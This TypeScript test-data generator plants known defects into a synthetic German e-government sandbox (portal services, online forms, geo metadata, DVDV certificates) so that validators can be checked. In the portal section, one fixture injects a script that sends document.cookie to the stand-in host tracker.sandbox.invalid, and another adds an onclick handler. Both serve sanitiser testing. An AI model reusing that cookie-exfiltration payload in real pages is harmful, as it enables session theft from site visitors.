import { CONFORMITY_SERVICES, SANDBOX_NAME_PREFIX, SPEC_URI, dayOffset, instantOffset } from './constants';
import { cswRecordUrl } from './geo';
import { sandboxUuid, type Rng } from './prng';
import type {
  DefectKind,
  GeoRecord,
  OgcLayer,
  OgcService,
  OnlineService,
  PlantedDefect,
  Severity,
  Upstream,
  World,
} from './types';

/** A well-formed LeiKa key from the reserved range that no world service uses (sandbox keys are 99999nnn001000). */
export const UNKNOWN_SANDBOX_LEIKA_KEY = '99999999999000';
const BEWOHNERPARKEN = '99108001001000';
const WOHNGELD = '99107023037000';

type WorldDraft = Omit<World, 'defects'>;

/**
 * Plants the known defects into an otherwise clean world and returns their manifest. Targets are drawn without
 * replacement from pools, so one object carries at most one planted defect of its family and the manifest stays
 * exact; consequences a defect necessarily has for other rules are listed in `alsoViolates`.
 */
export function plantDefects(rng: Rng, asOf: number, w: WorldDraft, certificateOfUnit: Map<string, string>): PlantedDefect[] {
  const defects: PlantedDefect[] = [];
  const plant = (kind: DefectKind, rule: string | null, severity: Severity, upstream: Upstream, subject: string, description: string, alsoViolates: string[] = []) =>
    defects.push({ id: `DEF-${String(defects.length + 1).padStart(3, '0')}`, kind, rule, severity, upstream, subject, description, alsoViolates });
  const draw = <T>(pool: T[], what: string): T => {
    const item = pool.shift();
    if (item === undefined) throw new Error(`sandbox defects: no candidate left for ${what}`);
    return item;
  };

  // ------------------------------------------------------------ portal (PVOG)
  const realServices = rng.shuffle(w.services.filter((s) => !s.sandboxKey));
  const sandboxServices = rng.shuffle(w.services.filter((s) => s.sandboxKey));
  {
    const s = draw(realServices, 'unsafe script');
    const m = s.textModules.find((t) => t.code === '06')!;
    m.html += `<p>Termine können Sie auch online buchen.</p><script>document.location='https://tracker.sandbox.invalid/?c='+document.cookie</script>`;
    plant('unsafe-html-script', 'P-11', 'info', 'pvog', s.leikaKey, 'Volltext (module 06) contains a <script> element that must be removed when sanitising.');
  }
  {
    const s = draw(realServices, 'unsafe handler');
    const m = s.textModules.find((t) => t.code === '08')!;
    m.html = m.html.replace('<li>', `<li onclick="alert('Sandbox')">`);
    plant('unsafe-html-handler', 'P-11', 'info', 'pvog', s.leikaKey, 'Unterlagen (module 08) contains an onclick event handler attribute.');
  }
  {
    const s = draw(sandboxServices, 'missing text');
    s.textModules = s.textModules.filter((t) => t.code !== '05' && t.code !== '06');
    plant('service-missing-text', 'P-11', 'info', 'pvog', s.leikaKey, 'Leistung has neither a Kurztext (05) nor a Volltext (06) module.');
  }
  {
    const candidates = w.municipalities.filter((m) => !w.districts.find((d) => d.ars === m.districtArs)!.urban);
    const m = rng.pick(candidates);
    const idx = w.responsibilities.findIndex((r) => r.leikaKey === WOHNGELD && r.areaArs === m.ars && r.role === '01');
    w.responsibilities.splice(idx, 1);
    plant('missing-competent-authority', 'P-10', 'warning', 'pvog', `${WOHNGELD}@${m.ars}`,
      `Wohngeld is offered in ${m.name} (Ansprechpunkt only) but no Organisationseinheit has role 01 there.`);
  }
  {
    const units = rng.shuffle(w.organisationUnits.filter((u) => u.kind === 'municipality'));
    const u = draw(units, 'ags mismatch');
    const other = w.municipalities.find((m) => m.ags !== u.address.ags && m.districtArs === u.districtArs)!;
    u.address.ags = other.ags;
    plant('unit-ags-ars-mismatch', 'P-7', 'error', 'pvog', u.id,
      `Address coding of ${u.name}: gemeindeschluessel ${other.ags} does not match regionalschluessel ${u.address.ars}.`);
  }

  // ------------------------------------------------------------ online services (ThAVEL forms)
  const thavelLocal = rng.shuffle(
    w.onlineServices.filter((o) => o.provider.kind === 'THAVEL' && o.scope.level !== 'land' && o.scope.level !== 'district' && !o.leikaKeys.includes(BEWOHNERPARKEN)),
  );
  const o = (what: string) => draw(thavelLocal, what);
  {
    const s = o('malformed leika');
    const bad = s.leikaKeys[0].slice(0, 8);
    s.leikaKeys = [bad];
    // In the PVOG bulk feed its Zuständigkeit then names a Leistung the feed does not carry (P-12, when PVOG announces it).
    plant('online-malformed-leika', 'P-1', 'error', 'thavel', s.id, `Onlinedienst refers to the 8-digit value ${bad} instead of a 14-digit LeiKa key.`, s.announcedIn.pvog ? ['P-12'] : []);
  }
  {
    const s = o('unknown leika');
    s.leikaKeys = [UNKNOWN_SANDBOX_LEIKA_KEY];
    plant('online-unknown-leika', 'P-2', 'error', 'thavel', s.id, `Onlinedienst refers to LeiKa key ${UNKNOWN_SANDBOX_LEIKA_KEY}, which no Leistung of the portal has.`, s.announcedIn.pvog ? ['P-12'] : []);
  }
  {
    const small = (ars: string) => w.municipalities.find((m) => m.ars === ars)!.population < 20000;
    let s: OnlineService | undefined = rng.shuffle(w.onlineServices.filter((x) => x.leikaKeys.includes(BEWOHNERPARKEN)))[0];
    if (!s) {
      // No administration published the form in this world: turn a local GovAPP into one.
      s = o('area not offered');
      const park = w.services.find((x) => x.leikaKey === BEWOHNERPARKEN)!;
      s.leikaKeys = [BEWOHNERPARKEN];
      s.title = `${park.name} – ${w.organisationUnits.find((u) => u.id === s!.operatorUnitId)!.name}`;
    }
    const op = w.organisationUnits.find((u) => u.id === s!.operatorUnitId)!;
    // Prefer a small member of the operator's own Verband, then a small neighbour in its district, then any.
    const target =
      op.servedArs.find((a) => small(a) && !s!.areas.includes(a)) ??
      w.municipalities.find((m) => m.districtArs === op.districtArs && small(m.ars))?.ars ??
      w.municipalities.find((m) => small(m.ars))!.ars;
    s.areas = [...s.areas, target];
    plant('online-area-not-offered', 'P-2', 'error', 'thavel', s.id,
      `Onlinedienst claims area ${target}, where the portal does not offer Leistung ${BEWOHNERPARKEN}.`);
  }
  {
    const s = o('malformed ars');
    const bad = s.areas[0].slice(0, 10);
    s.areas = [...s.areas, bad];
    plant('online-malformed-ars', 'P-5', 'error', 'thavel', s.id, `Onlinedienst area ${bad} is not an ARS of length 2, 3, 5, 9 or 12.`);
  }
  {
    const s = o('http link');
    s.links[0].url = s.links[0].url.replace(/^https:/, 'http:');
    plant('online-http-link', 'P-3', 'error', 'thavel', s.id, 'The only link of the Onlinedienst is plain http, not https.');
  }
  {
    const s = o('no link');
    s.links = [];
    plant('online-no-link', 'P-3', 'error', 'thavel', s.id, 'Onlinedienst has no link at all.');
  }
  {
    const s = o('no trust level');
    s.trustLevel = null;
    plant('online-no-trust-level', 'P-4', 'warning', 'thavel', s.id, 'Onlinedienst has no Vertrauensniveau.');
  }
  {
    const s = o('only pvog');
    s.announcedIn = { pvog: true, thavel: false };
    plant('online-only-pvog', null, 'warning', 'thavel', s.id, 'ThAVEL form announced in PVOG but missing from the ThAVEL catalogue.');
  }
  {
    const s = o('only thavel');
    s.announcedIn = { pvog: false, thavel: true };
    plant('online-only-thavel', null, 'warning', 'pvog', s.id, 'ThAVEL form in the ThAVEL catalogue but not announced in PVOG.');
  }
  {
    const s = o('title mismatch');
    const variant = `Online-Antrag: ${s.title.replace(`${SANDBOX_NAME_PREFIX} `, '')}`;
    s.thavelVariant = { title: variant };
    plant('online-title-mismatch', null, 'info', 'thavel', s.id, `ThAVEL catalogue titles the form "${variant}", PVOG "${s.title}".`);
  }
  {
    const s = o('broken link');
    const link = s.links[0];
    const u = new URL(link.url);
    u.pathname = `${u.pathname}-2019`;
    link.url = u.toString();
    link.retired = true;
    plant('online-link-broken', 'P-3b', 'warning', 'thavel', s.id, `The form link ${link.url} points to a page the web site no longer serves (HTTP 404).`);
  }
  {
    // A copy-paste slip: the area list of the form carries München's regional key (Bayern, Destatis register).
    const s = o('foreign ars');
    s.areas = [...s.areas, '091620000000'];
    plant('online-foreign-ars', 'P-6', 'error', 'thavel', s.id, 'Onlinedienst area 091620000000 (München, Bayern) is outside Thüringen.');
  }
  {
    // The AGS padded to 12 digits with 0000 instead of the municipality's Gemeindeverband part.
    const s = o('padded ars');
    const m = w.municipalities.find((x) => s.areas.includes(x.ars) && x.ars.slice(5, 9) !== '0000') ?? w.municipalities.find((x) => x.ars.slice(5, 9) !== '0000')!;
    const padded = `${m.ags.slice(0, 5)}0000${m.ags.slice(5)}`;
    s.areas = [...s.areas, padded];
    plant('online-padded-ars', 'P-8', 'warning', 'thavel', s.id, `Onlinedienst area ${padded} is the AGS ${m.ags} padded with 0000; the register gives ${m.name} the ARS ${m.ars}.`);
  }

  // ------------------------------------------------------------ geo metadata (GeoMIS)
  const records = w.geo.records;
  const ogc = w.geo.ogcServices;
  const layersOf = (rec: GeoRecord) => ogc.flatMap((s) => s.layers).filter((l) => l.datasetId === rec.fileIdentifier);
  const datasets = rng.shuffle(records.filter((r) => r.hierarchyLevel === 'dataset' && layersOf(r).every((l) => l.metadataUrls.every((m) => m.form === 'csw'))));
  const ds = (what: string) => draw(datasets, what);
  const setIdentifier = (rec: GeoRecord, code: string, codeSpace: string | null) => {
    rec.resourceIdentifier = { code, codeSpace };
    for (const l of layersOf(rec)) l.identifier = { ...l.identifier!, code };
  };
  {
    const r = ds('missing bbox');
    r.bbox = null;
    plant('geo-missing-bbox', 'R9', 'error', 'geomis', r.fileIdentifier, `Record "${r.title}" has no EX_GeographicBoundingBox.`);
  }
  {
    const r = ds('bbox outside');
    const b = r.bbox!;
    r.bbox = { west: b.south, east: b.north, south: b.west, north: b.east };
    plant('geo-bbox-outside', 'R9b', 'warning', 'geomis', r.fileIdentifier, `Bounding box of "${r.title}" has latitude and longitude swapped and lies outside Thüringen.`);
  }
  {
    const r = ds('missing abstract');
    r.abstract = '';
    plant('geo-missing-abstract', 'R5', 'error', 'geomis', r.fileIdentifier, `Record "${r.title}" has an empty abstract.`);
  }
  {
    const r = ds('contact without e-mail');
    r.metadataContact = { ...r.metadataContact, email: null };
    plant('geo-contact-no-email', 'R6', 'error', 'geomis', r.fileIdentifier, `Metadata contact of "${r.title}" has no electronicMailAddress.`);
  }
  {
    const r = ds('invalid dateStamp');
    r.dateStamp = `${dayOffset(asOf, -30).slice(0, 4)}-13-45`;
    plant('geo-invalid-datestamp', 'R2', 'error', 'geomis', r.fileIdentifier, `dateStamp "${r.dateStamp}" is not a valid ISO 8601 date.`);
  }
  {
    const original = ds('duplicate identifier (original)');
    const copy = ds('duplicate identifier (copy)');
    setIdentifier(copy, original.resourceIdentifier!.code, original.resourceIdentifier!.codeSpace);
    plant('geo-duplicate-identifier', 'R10', 'error', 'geomis', copy.fileIdentifier,
      `Resource identifier of "${copy.title}" duplicates that of "${original.title}" (${original.fileIdentifier}).`, ['R18']);
  }
  {
    const r = ds('identifier without namespace');
    const code = `SBX_DS_${r.fileIdentifier.slice(9, 13).toUpperCase()}${r.fileIdentifier.slice(-6).toUpperCase()}`;
    setIdentifier(r, code, null);
    plant('geo-identifier-no-namespace', 'R10c', 'warning', 'geomis', r.fileIdentifier, `Resource identifier "${code}" is not a namespace URI.`);
  }
  {
    const r = ds('opendata without licence');
    r.licence = null;
    r.otherConstraints = r.otherConstraints.filter((c) => !c.text.startsWith('{'));
    plant('geo-opendata-no-licence', 'R13b', 'warning', 'geomis', r.fileIdentifier, `"${r.title}" carries the keyword opendata but no licence JSON in otherConstraints.`);
  }

  // ------------------------------------------------------------ service ↔ dataset coupling (GeoMIS + Geoproxy)
  const recordOf = (s: OgcService) => records.find((r) => r.service?.ogcServiceName === s.name)!;
  /** Layers that are the only reference of their dataset within their service (so removing it surely breaks XG4). */
  const soleLayer = (s: OgcService): OgcLayer | undefined =>
    s.layers.find((l) => l.datasetId && s.layers.filter((x) => x.datasetId === l.datasetId).length === 1);
  const services = rng.shuffle(ogc.filter((s) => !s.protected));
  const sv = (what: string, ok: (s: OgcService) => boolean) => {
    const i = services.findIndex(ok);
    if (i < 0) throw new Error(`sandbox defects: no OGC service left for ${what}`);
    return services.splice(i, 1)[0];
  };
  {
    const s = sv('no etrs89 crs', (x) => x.kind === 'WFS');
    s.crs = ['EPSG:31468', 'EPSG:4326'];
    for (const l of s.layers) l.crs = [];
    plant('ogc-no-etrs89-crs', 'XG8', 'warning', 'geoproxy', s.name, `${s.name} offers only EPSG:31468 and EPSG:4326, no ETRS89 CRS.`);
  }
  {
    const s = sv('service type mismatch', (x) => x.kind === 'WMS');
    const rec = recordOf(s);
    rec.service!.serviceType = 'download';
    plant('ogc-service-type-mismatch', 'XG6', 'warning', 'geomis', rec.fileIdentifier, `Service record of the WMS ${s.name} declares serviceType "download".`);
  }

  {
    const s = sv('extcaps to dataset', (x) => x.serviceRecordId !== null && x.layers.some((l) => l.datasetId));
    s.serviceRecordId = s.layers.find((l) => l.datasetId)!.datasetId;
    plant('ogc-service-metadata-not-service', 'XG2', 'error', 'geoproxy', s.name,
      `INSPIRE ExtendedCapabilities MetadataUrl of ${s.name} points to dataset record ${s.serviceRecordId}, not a service record.`);
  }
  {
    const s = sv('asymmetric coupling', (x) => recordOf(x).service!.operatesOn.length >= 2);
    const rec = recordOf(s);
    const dropped = rec.service!.operatesOn.pop()!;
    plant('ogc-coupling-asymmetric', 'XG4', 'warning', 'geomis', rec.fileIdentifier,
      `Service record "${rec.title}" lacks operatesOn for dataset ${dropped.uuidref}, which the capabilities of ${s.name} reference.`);
  }
  {
    const s = sv('metadata url unknown', (x) => x.layers.some((l) => l.metadataUrls[0]?.form === 'csw') && soleLayer(x) !== undefined);
    const l = soleLayer(s)!;
    const missing = sandboxUuid(`geo:missing-layer:${s.name}:${l.name}`);
    l.metadataUrls = [{ ...l.metadataUrls[0], form: 'csw', url: cswRecordUrl(missing) }];
    l.datasetId = null;
    plant('ogc-metadata-url-unknown', 'R16', 'error', 'geoproxy', `${s.name}#${l.name}`, `MetadataURL of layer ${l.name} points to ${missing}, which is not in the catalogue.`, ['XG4', 'R14']);
  }
  {
    const s = sv('layer without metadata url', (x) => soleLayer(x) !== undefined);
    const l = soleLayer(s)!;
    l.metadataUrls = [];
    l.datasetId = null;
    plant('ogc-layer-no-metadata-url', 'XG1', 'warning', 'geoproxy', `${s.name}#${l.name}`, `Layer ${l.name} has no MetadataURL.`, ['XG4']);
  }
  {
    const s = sv('operatesOn unknown', (x) => recordOf(x).service!.operatesOn.length >= 1);
    const rec = recordOf(s);
    const missing = sandboxUuid(`geo:missing:${rec.fileIdentifier}`);
    rec.service!.operatesOn[0] = { uuidref: missing, href: cswRecordUrl(missing), title: rec.service!.operatesOn[0].title };
    plant('geo-operates-on-unknown', 'R15', 'error', 'geomis', rec.fileIdentifier, `operatesOn of "${rec.title}" refers to ${missing}, which is not in the catalogue.`, ['XG4', 'R14']);
  }
  {
    const s = sv('operatesOn service', (x) => recordOf(x).service!.operatesOn.length >= 1);
    const rec = recordOf(s);
    const other = records.find((r) => r.hierarchyLevel === 'service' && r !== rec)!;
    rec.service!.operatesOn[0] = { uuidref: other.fileIdentifier, href: cswRecordUrl(other.fileIdentifier), title: other.title };
    plant('geo-operates-on-service', 'R15', 'error', 'geomis', rec.fileIdentifier, `operatesOn of "${rec.title}" refers to the service record ${other.fileIdentifier}, not a dataset.`, ['XG4']);
  }
  // ------------------------------------------------------------ more geo metadata and coupling (R3–R17, XG3/XG5/XG7)
  // Drawn from the pools above without further random numbers, so the DVDV defects below keep their targets.
  const dsWhere = (what: string, ok: (r: GeoRecord) => boolean) => {
    const i = datasets.findIndex(ok);
    if (i < 0) throw new Error(`sandbox defects: no dataset left for ${what}`);
    return datasets.splice(i, 1)[0];
  };
  {
    const r = ds('point of contact without e-mail');
    r.pointOfContact = { ...r.pointOfContact, email: null };
    plant('geo-poc-no-email', 'R7', 'error', 'geomis', r.fileIdentifier, `Responsible party (pointOfContact) of "${r.title}" has no electronicMailAddress.`);
  }
  {
    const r = ds('two revision dates');
    const rev = r.dates.find((d) => d.type === 'revision')!;
    const earlier = new Date(Date.parse(rev.date) - 365 * 86_400_000).toISOString().slice(0, 10);
    r.dates = [...r.dates, { date: earlier, type: 'revision' }];
    plant('geo-two-revision-dates', 'R8', 'error', 'geomis', r.fileIdentifier, `"${r.title}" carries two revision dates (${rev.date} and ${earlier}).`);
  }
  {
    const r = dsWhere('INSPIRE dataset without lineage', (x) => x.inspire && x.lineage !== null);
    r.lineage = null;
    plant('geo-no-lineage', 'R10b', 'warning', 'geomis', r.fileIdentifier, `INSPIRE dataset "${r.title}" has no lineage statement.`);
  }
  {
    const r = dsWhere('INSPIRE dataset citing the services regulation', (x) => x.inspire && x.conformity.length > 0);
    r.conformity = [{ ...CONFORMITY_SERVICES, pass: r.conformity[0].pass }];
    plant('geo-conformity-wrong-regulation', 'R12', 'error', 'geomis', r.fileIdentifier,
      `INSPIRE dataset "${r.title}" cites VO 976/2009 (network services) instead of VO 1089/2010 in its conformance result.`);
  }
  {
    const r = ds('no access constraints');
    r.accessConstraints = [];
    plant('geo-no-access-constraints', 'R13', 'error', 'geomis', r.fileIdentifier,
      `"${r.title}" gives no accessConstraints (otherRestrictions) for its limitations on public access.`);
  }
  {
    // A record editor's slip: a (non-INSPIRE, so no ExtendedCapabilities point to it) service record typed dataset. Judged
    // as a dataset it also lacks the resource identifier (R10), topic category and lineage (R10b) a dataset needs.
    const s = sv('service typed as dataset', (x) => x.serviceRecordId === null);
    const rec = recordOf(s);
    rec.hierarchyLevel = 'dataset';
    plant('geo-hierarchy-level-mismatch', 'R3', 'error', 'geomis', rec.fileIdentifier,
      `Service record "${rec.title}" declares hierarchyLevel dataset but describes ${s.name} with SV_ServiceIdentification.`, ['R10', 'R10b']);
  }
  {
    const s = sv('operatesOn without href', (x) => recordOf(x).service!.operatesOn.length >= 1);
    const rec = recordOf(s);
    rec.service!.operatesOn = rec.service!.operatesOn.map((op) => ({ ...op, href: '' }));
    plant('geo-operates-on-no-href', 'R11', 'error', 'geomis', rec.fileIdentifier, `operatesOn of the ${rec.service!.serviceType} service "${rec.title}" carries uuidref only, no xlink:href.`);
  }
  {
    const s = sv('no capabilities link', (x) => x.serviceRecordId !== null && recordOf(x).inspire);
    const rec = recordOf(s);
    rec.onlineResources = rec.onlineResources.map((o) => ({ ...o, url: s.url }));
    plant('geo-no-capabilities-link', 'R17', 'warning', 'geomis', rec.fileIdentifier, `INSPIRE service "${rec.title}" links the bare endpoint ${s.url}, not its GetCapabilities request.`);
  }
  {
    const s = sv('connect points elsewhere', () => true);
    const rec = recordOf(s);
    const internal = `https://geoproxy-intern.sandbox.invalid/geoproxy/services/${s.name}`;
    rec.service!.operations = rec.service!.operations.map((op) => ({ ...op, url: internal }));
    plant('ogc-record-endpoint-mismatch', 'XG3', 'warning', 'geomis', rec.fileIdentifier, `Operations of service record "${rec.title}" point to ${internal}, not to the Geoproxy endpoint ${s.url}.`);
  }
  {
    const s = sv('layer identifier of another dataset', (x) => x.kind === 'WMS' && x.layers.some((l) => l.identifier && l.datasetId));
    const l = s.layers.find((x) => x.identifier && x.datasetId)!;
    const other = records.find((r) => r.hierarchyLevel === 'dataset' && r.resourceIdentifier && r.fileIdentifier !== l.datasetId && r.resourceIdentifier.code !== l.identifier!.code)!;
    l.identifier = { ...l.identifier!, code: other.resourceIdentifier!.code };
    plant('ogc-layer-identifier-mismatch', 'XG5', 'warning', 'geoproxy', `${s.name}#${l.name}`,
      `Identifier of layer ${l.name} (${s.name}) names the resource identifier of "${other.title}", not that of the dataset its MetadataURL points to.`);
  }
  {
    const s = sv('record extent of another district', (x) => x.name.startsWith('sandbox/bplan_'));
    const rec = recordOf(s);
    const b = s.layers.map((l) => l.bbox);
    const lay = { west: Math.min(...b.map((x) => x.west)), east: Math.max(...b.map((x) => x.east)), south: Math.min(...b.map((x) => x.south)), north: Math.max(...b.map((x) => x.north)) };
    const far = w.districts.find((d) => d.bbox.west > lay.east || d.bbox.east < lay.west || d.bbox.south > lay.north || d.bbox.north < lay.south)!;
    rec.bbox = { ...far.bbox };
    plant('ogc-record-extent-disjoint', 'XG7', 'info', 'geomis', rec.fileIdentifier,
      `Service record "${rec.title}" carries the extent of district ${far.name}; the layers of ${s.name} lie elsewhere.`);
  }
  // ------------------------------------------------------------ Regionalschlüssel of geo records (U-1)
  // Drawn from the dataset pool without further random numbers (the DVDV defects below keep their targets). Bebauungsplan
  // datasets describe one municipality (12-digit areaArs, bbox inside Thüringen).
  {
    const r = dsWhere('record without ARS', (x) => x.areaArs?.length === 12);
    r.areaArs = null;
    plant('geo-missing-ars', 'U-1', 'info', 'geomis', r.fileIdentifier, `"${r.title}" carries no Regionalschlüssel (EX_GeographicDescription) of its municipality.`);
  }
  {
    // The AGS padded with 0000, as P-8 knows it from the portal: only wrong where the municipality belongs to a Verband.
    const r = dsWhere('record with padded ARS', (x) => x.areaArs?.length === 12 && x.areaArs.slice(5, 9) !== '0000');
    const m = w.municipalities.find((x) => x.ars === r.areaArs)!;
    r.areaArs = `${m.ags.slice(0, 5)}0000${m.ags.slice(5)}`;
    plant('geo-padded-ars', 'U-1', 'info', 'geomis', r.fileIdentifier, `Regionalschlüssel ${r.areaArs} of "${r.title}" is the AGS ${m.ags} padded with 0000; the register gives ${m.name} the ARS ${m.ars}.`);
  }
  // ------------------------------------------------------------ DVDV
  const orgs = w.dvdv.organizations;
  const usedUnits = new Set<string>();
  const officeUnits = rng.shuffle(w.registrationOffices);
  const takeOffice = (ok: (servedCount: number) => boolean) => {
    const i = officeUnits.findIndex((o) => ok(o.servedArs.length) && w.organisationUnits.find((u) => u.id === o.unitId)!.kind !== 'city');
    const office = officeUnits.splice(i, 1)[0];
    usedUnits.add(office.unitId);
    return office;
  };
  const orgOf = (unitId: string, category: string) => orgs.find((x) => x.unitId === unitId && x.category === category)!;
  {
    const office = takeOffice((n) => n === 1);
    const org = orgOf(office.unitId, 'Meldebehörde');
    orgs.splice(orgs.indexOf(org), 1);
    plant('dvdv-missing-organization', 'D-2', 'error', 'dvdv', org.organizationKeys[0],
      `Meldebehörde ${org.nameDe} has no DVDV entry; key ${org.organizationKeys[0]} is not found.`);
  }
  {
    const office = takeOffice((n) => n >= 3);
    const org = orgOf(office.unitId, 'Meldebehörde');
    const key = org.organizationKeys[org.organizationKeys.length - 1];
    org.organizationKeys = org.organizationKeys.slice(0, -1);
    plant('dvdv-missing-member-key', 'D-2', 'error', 'dvdv', key, `DVDV entry of ${org.nameDe} lacks the key ${key} of a member municipality.`);
  }
  {
    const office = takeOffice(() => true);
    const org = orgOf(office.unitId, 'Passbehörde');
    for (const s of org.services) if (!s.validTo || s.validTo > instantOffset(asOf, 0)) s.validTo = instantOffset(asOf, -rng.range(5, 60));
    plant('dvdv-service-not-valid', 'D-3', 'warning', 'dvdv', org.organizationKeys[0],
      `Passbehörde ${org.nameDe}: the ${SPEC_URI.xhd15} service exists but is no longer valid (204 + dvdv-warning-msg).`);
  }
  {
    const office = takeOffice(() => true);
    const org = orgOf(office.unitId, 'Meldebehörde');
    for (const s of org.services) {
      const names = new Set(s.serviceElements.filter((e) => e.serviceElementType === 'OSCI_ADDRESSEE').map((e) => e.serviceElementDescriptionName));
      s.serviceElements = s.serviceElements
        .filter((e) => !(e.serviceElementType === 'CIPHER_CERTIFICATE' && names.has(e.serviceElementDescriptionName)))
        .map((e) => (e.serviceElementType === 'OSCI_ADDRESSEE' ? { ...e, cipherCertificateFingerprint: null } : e));
    }
    plant('dvdv-addressee-no-cipher', 'D-4', 'error', 'dvdv', org.organizationKeys[0], `OSCI_ADDRESSEE of ${org.nameDe} has no content cipher certificate.`);
  }
  {
    const office = takeOffice(() => true);
    const org = orgOf(office.unitId, 'Personalausweisbehörde');
    const bad = org.organizationKeys[0].replace(/^pab:/, '');
    org.organizationKeys = [...org.organizationKeys, bad];
    plant('dvdv-malformed-key', 'D-1', 'error', 'dvdv', bad, `DVDV entry of ${org.nameDe} carries the key "${bad}" without a <prefix>: part.`);
  }
  const certUnits = rng.shuffle([...certificateOfUnit.keys()].filter((u) => !usedUnits.has(u)));
  const certOf = (what: string) => {
    const unitId = draw(certUnits, what);
    usedUnits.add(unitId);
    const fp = certificateOfUnit.get(unitId)!;
    return w.dvdv.certificates.find((c) => c.fingerprint === fp)!;
  };
  for (let i = 0; i < 2; i++) {
    const cert = certOf('expired');
    const ago = rng.range(1, 200);
    cert.validTo = instantOffset(asOf, -ago, 86_399);
    cert.validFrom = instantOffset(asOf, -ago - 1095);
    plant('dvdv-cert-expired', 'D-5', 'error', 'dvdv', cert.fingerprint, `Certificate "${cert.nameSubject}" expired ${ago} days before ${dayOffset(asOf, 0)}.`);
  }
  for (let i = 0; i < 3; i++) {
    const cert = certOf('expiring');
    const left = rng.range(1, 29);
    cert.validTo = instantOffset(asOf, left, 86_399);
    cert.validFrom = instantOffset(asOf, left - 1095);
    plant('dvdv-cert-expiring', 'D-5', 'warning', 'dvdv', cert.fingerprint, `Certificate "${cert.nameSubject}" expires within 30 days (${cert.validTo.slice(0, 10)}).`);
  }
  {
    const cert = certOf('revoked');
    cert.revocationDate = instantOffset(asOf, -rng.range(3, 90), 36_000);
    cert.revocationReason = 'KEY_COMPROMISE';
    plant('dvdv-cert-revoked', 'D-5', 'error', 'dvdv', cert.fingerprint, `Certificate "${cert.nameSubject}" was revoked (KEY_COMPROMISE) but is still listed.`);
  }
  {
    const candidates = rng.shuffle(orgs.filter((x) => x.category === 'Untere Bauaufsichtsbehörde' && !usedUnits.has(x.unitId)));
    const org = draw(candidates, 'wrong state');
    org.locationStateId = 15;
    plant('dvdv-wrong-state', 'D-6', 'warning', 'dvdv', org.organizationKeys[0], `Thuringian entry ${org.nameDe} has locationStateId 15 instead of 16.`);
  }

  // ------------------------------------------------------------ PVOG bulk feed (P-12); no draws, so the defects above stay put
  {
    // Reserved sandbox ids (SBX16.*.92xxxxx) that no generator hands out.
    const m = w.municipalities[0];
    const noLeistung = { id: 'SBX16.ZS.9200001', leistungId: 'SBX16.LB.9200001', parentId: w.organisationUnits[0].id, areaArs: m.ars };
    const noParent = { id: 'SBX16.ZS.9200002', leistungId: w.services[0].id, parentId: 'SBX16.OE.9200001', areaArs: m.ars };
    w.bulkFeed.orphanResponsibilities.push(noLeistung, noParent);
    plant('bulk-orphan-responsibility', 'P-12', 'info', 'pvog', noLeistung.id, `Zuständigkeit ${noLeistung.id} in the bulk feed names Leistung ${noLeistung.leistungId}, which the feed never writes.`);
    plant('bulk-orphan-responsibility', 'P-12', 'info', 'pvog', noParent.id, `Zuständigkeit ${noParent.id} in the bulk feed hangs under ${noParent.parentId}, neither an Organisationseinheit nor an Onlinedienst of the feed.`);
    // PVOG deletes Zuständigkeiten it never sent, in large numbers (portal-pvog.md §3): counted, never a failure.
    w.bulkFeed.orphanDeleteIds.push(...Array.from({ length: 5 }, (_, i) => `SBX16.ZS.${9_000_001 + i}`));
    plant('bulk-orphan-deletes', 'P-12', 'info', 'pvog', 'loesche', `The bulk feed deletes ${w.bulkFeed.orphanDeleteIds.length} Zuständigkeiten it never wrote ("verwaiste Löschungen").`);
  }

  return defects;
}
